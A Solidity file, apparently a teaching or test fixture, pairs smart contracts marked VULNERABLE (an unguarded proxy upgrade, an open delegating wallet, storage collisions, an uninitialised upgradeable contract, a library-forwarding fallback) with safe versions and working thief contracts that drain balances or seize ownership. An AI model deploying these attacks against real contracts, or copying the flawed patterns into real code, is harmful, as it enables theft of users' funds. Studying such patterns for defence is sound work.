// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {Token} from "./Token.sol";

/// @notice An EIP-1967 proxy. Who may change its code is asked of `admin`, or of nobody where it is zero.
contract Proxy {
    bytes32 private constant _CODE = bytes32(uint256(keccak256("eip1967.proxy.implementation")) - 1);
    bytes32 private constant _ADMIN = bytes32(uint256(keccak256("eip1967.proxy.admin")) - 1);

    event Upgraded(address indexed implementation);

    constructor(address code, address admin) payable {
        _write(_CODE, code);
        _write(_ADMIN, admin);
    }

    /// @notice VULNERABLE where there is no admin.
    function upgradeTo(address code) external {
        address admin = _read(_ADMIN);
        require(admin == address(0) || msg.sender == admin, "admin");
        _write(_CODE, code);
        emit Upgraded(code);
    }

    receive() external payable {}

    fallback() external payable {
        address code = _read(_CODE);
        assembly {
            calldatacopy(0, 0, calldatasize())
            let done := delegatecall(gas(), code, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(done) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }

    function _read(bytes32 slot) private view returns (address value) {
        assembly {
            value := sload(slot)
        }
    }

    function _write(bytes32 slot, address value) private {
        assembly {
            sstore(slot, value)
        }
    }
}

/// @notice The contract that a proxy's admin is, and its owner.
contract ProxyOwner {
    address public owner = msg.sender;

    function upgrade(Proxy proxy, address code) external {
        require(msg.sender == owner, "owner");
        proxy.upgradeTo(code);
    }
}

contract Plain {
    uint256 public number;

    function set(uint256 to) external {
        number = to;
    }
}

contract Draining {
    function drain(address payable to) external {
        to.transfer(address(this).balance);
    }
}

/// @notice A wallet that runs other code on its own storage for its owner.
abstract contract DelegatingWallet {
    address public owner = msg.sender;

    receive() external payable {}

    function execute(address code, bytes calldata data) external payable {
        _check();
        (bool done,) = code.delegatecall(data);
        require(done, "failed");
    }

    function _check() internal view virtual;
}

/// @notice VULNERABLE (delegated call of anything, by anybody).
contract OpenWallet is DelegatingWallet {
    function _check() internal view override {}
}

contract ClosedWallet is DelegatingWallet {
    function _check() internal view override {
        require(msg.sender == owner, "owner");
    }
}

/// @notice Brings its code along.
contract WalletThief {
    receive() external payable {}

    function rob(DelegatingWallet wallet) external {
        wallet.execute(address(new Draining()), abi.encodeCall(Draining.drain, (payable(address(this)))));
    }
}

/// @notice Sets a number for others, in their storage.
contract Clock {
    uint256 public time;

    function set(uint256 to) external {
        time = to;
    }
}

/// @notice VULNERABLE (storage collision): the library's number lies where the library's address is here.
contract CollidingTimer {
    address public clock;
    address public owner = msg.sender;
    uint256 public time;

    constructor(address clock_) {
        clock = clock_;
    }

    function set(uint256 to) external {
        (bool done,) = clock.delegatecall(abi.encodeCall(Clock.set, (to)));
        require(done);
    }
}

contract AlignedTimer {
    uint256 public time;
    address public clock;

    constructor(address clock_) {
        clock = clock_;
    }

    function set(uint256 to) external {
        (bool done,) = clock.delegatecall(abi.encodeCall(Clock.set, (to)));
        require(done);
    }
}

/// @notice Looks like a Clock, and takes what uses it.
contract FalseClock {
    address public clock;
    address public owner;

    function set(uint256) external {
        owner = tx.origin;
    }
}

/// @notice Somebody's first word makes him the owner: of a proxy's code too, where nobody speaks first.
contract Engine {
    bytes32 private constant _CODE = bytes32(uint256(keccak256("eip1967.proxy.implementation")) - 1);

    address public upgrader;

    constructor() payable {}

    function initialize() external {
        require(upgrader == address(0), "initialised");
        upgrader = msg.sender;
    }

    function upgradeToAndCall(address code, bytes calldata data) external {
        require(msg.sender == upgrader, "upgrader");
        bytes32 slot = _CODE;
        assembly {
            sstore(slot, code)
        }
        (bool done,) = code.delegatecall(data);
        require(done);
    }
}

/// @notice Speaks first, and has the code emptied.
contract EngineThief {
    receive() external payable {}

    function steal(Engine engine) external {
        engine.initialize();
        engine.upgradeToAndCall(address(new Draining()), abi.encodeCall(Draining.drain, (payable(address(this)))));
    }
}

/// @notice VULNERABLE (storage collision): who asks to be admin lies where the code behind has its owner.
contract AskingProxy {
    address public asking;
    address private immutable _code;

    constructor(address code) payable {
        asking = msg.sender;
        _code = code;
    }

    function ask(address admin) external {
        asking = admin;
    }

    receive() external payable {}

    fallback() external payable {
        address code = _code;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let done := delegatecall(gas(), code, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(done) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

contract BehindAskingProxy {
    address public owner;

    function withdraw() external {
        require(msg.sender == owner, "owner");
        payable(msg.sender).transfer(address(this).balance);
    }
}

contract AskingThief {
    receive() external payable {}

    function steal(address proxy) external {
        AskingProxy(payable(proxy)).ask(address(this));
        BehindAskingProxy(proxy).withdraw();
    }
}

/// @notice VULNERABLE: whatever is not known here is for the library, on this contract's storage.
contract Forwarding {
    address public owner = msg.sender;
    address private immutable _library;

    constructor(address library_) payable {
        _library = library_;
    }

    function withdraw() external {
        require(msg.sender == owner, "owner");
        payable(msg.sender).transfer(address(this).balance);
    }

    fallback() external {
        (bool done,) = _library.delegatecall(msg.data);
        require(done);
    }
}

contract OwnersLibrary {
    address public owner;

    function claim() external {
        owner = msg.sender;
    }
}

contract ForwardingThief {
    receive() external payable {}

    function steal(address forwarding) external {
        OwnersLibrary(forwarding).claim();
        Forwarding(forwarding).withdraw();
    }
}
